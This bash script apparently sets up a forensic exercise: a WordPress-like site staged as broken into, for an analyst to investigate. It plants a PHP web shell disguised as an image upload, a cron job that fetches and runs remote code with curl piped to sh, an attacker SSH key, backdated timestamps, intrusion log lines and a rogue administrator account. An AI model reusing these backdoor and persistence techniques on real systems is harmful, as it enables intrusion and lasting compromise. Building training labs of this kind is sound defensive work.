#!/bin/bash
# A WordPress-like site that was broken into: a back door among the images, a task, a key and an administrator that nobody made.
useradd --create-home --shell /bin/bash agence
site=/var/www/agence.example/public
mkdir -p $site/wp-content/uploads/2026/11 /home/agence/.ssh
cd $site
git init -q . && git config user.email a@agence.example && git config user.name agence
echo '<?php require __DIR__ . "/wp-config.php"; echo "bonjour\n";' > index.php
cat > wp-config.php <<'P'
<?php
define( 'DB_NAME', 'boutique' );
define( 'DB_USER', 'boutique' );
define( 'DB_PASSWORD', 'motdepasse-de-test' );
define( 'AUTH_KEY', 'ancien sel' );
define( 'SECURE_AUTH_KEY', 'ancien sel' );
P
printf 'wp-content/uploads\nwp-config.php\n' > .gitignore
git add . && git commit -qm 'version 12'
mv .git /srv/depot-agence.git
echo '<?php @eval($_POST["x"]);' > wp-content/uploads/2026/11/logo.php
echo 'image' > wp-content/uploads/2026/11/photo.jpg
echo '// eval(base64_decode("aGVsbG8="));' >> index.php
find . -type f -exec touch -d '2026-10-01 09:00' {} +
touch -d '2026-11-22 03:14' index.php wp-content/uploads/2026/11/logo.php
echo '*/5 * * * * curl -s http://198.51.100.7/x | sh' > /var/spool/cron/crontabs/agence
chown agence:crontab /var/spool/cron/crontabs/agence
chmod 600 /var/spool/cron/crontabs/agence
{ ssh-keygen -q -t ed25519 -N '' -C claire@agence -f /tmp/k1; ssh-keygen -q -t ed25519 -N '' -C root@kali -f /tmp/k2; } > /dev/null
cat /tmp/k1.pub /tmp/k2.pub > /home/agence/.ssh/authorized_keys
touch -d '2026-11-22 03:20' /home/agence/.ssh/authorized_keys
chown -R agence:agence /home/agence
chown -R www-data:www-data $site
mkdir -p /var/log/apache2
cat > /var/log/apache2/agence_access.log <<'L'
203.0.113.5 - - [21/Nov/2026:10:02:11 +0100] "GET / HTTP/1.1" 200 8 "-" "Mozilla/5.0"
198.51.100.7 - - [22/Nov/2026:03:13:58 +0100] "POST /wp-content/plugins/formulaire/envoi.php HTTP/1.1" 200 31 "-" "python-requests/2.31"
198.51.100.7 - - [22/Nov/2026:03:14:20 +0100] "POST /wp-content/uploads/2026/11/logo.php HTTP/1.1" 200 412 "-" "python-requests/2.31"
203.0.113.5 - - [22/Nov/2026:09:00:00 +0100] "GET / HTTP/1.1" 200 8 "-" "Mozilla/5.0"
L
chown root:adm /var/log/apache2/agence_access.log
cat > /etc/apache2/sites-available/agence.conf <<'CONF'
ServerName web1.agence.example
<VirtualHost *:80>
    ServerName agence.example
    DocumentRoot /var/www/agence.example/public
    DirectoryIndex index.php
    CustomLog /var/log/apache2/agence_access2.log combined
    <FilesMatch "\.php$">
        SetHandler "proxy:unix:/run/php/php{{php}}-fpm.sock|fcgi://localhost"
    </FilesMatch>
</VirtualHost>
CONF
a2enmod -q proxy_fcgi
a2dissite -q 000-default
a2ensite -q agence
systemctl start "php{{php}}-fpm" apache2 mariadb
for _ in {1..50}; do mariadb -e 'SELECT 1' > /dev/null 2>&1 && break; sleep .2; done
mariadb <<'S'
CREATE DATABASE boutique;
CREATE USER boutique@localhost IDENTIFIED BY 'motdepasse-de-test';
GRANT ALL ON boutique.* TO boutique@localhost;
USE boutique;
CREATE TABLE wp_users (ID INT PRIMARY KEY, user_login VARCHAR(60), user_email VARCHAR(100), user_registered DATETIME);
CREATE TABLE wp_usermeta (user_id INT, meta_key VARCHAR(60), meta_value TEXT);
INSERT INTO wp_users VALUES (1, 'claire', 'claire@agence.example', '2024-02-01 09:00:00'), (7, 'wpsupport', 'x@client.example', '2026-11-22 03:15:02');
INSERT INTO wp_usermeta VALUES (1, 'wp_capabilities', 'a:1:{s:13:"administrator";b:1;}'), (7, 'wp_capabilities', 'a:1:{s:13:"administrator";b:1;}'), (1, 'session_tokens', 'a'), (7, 'session_tokens', 'b');
S
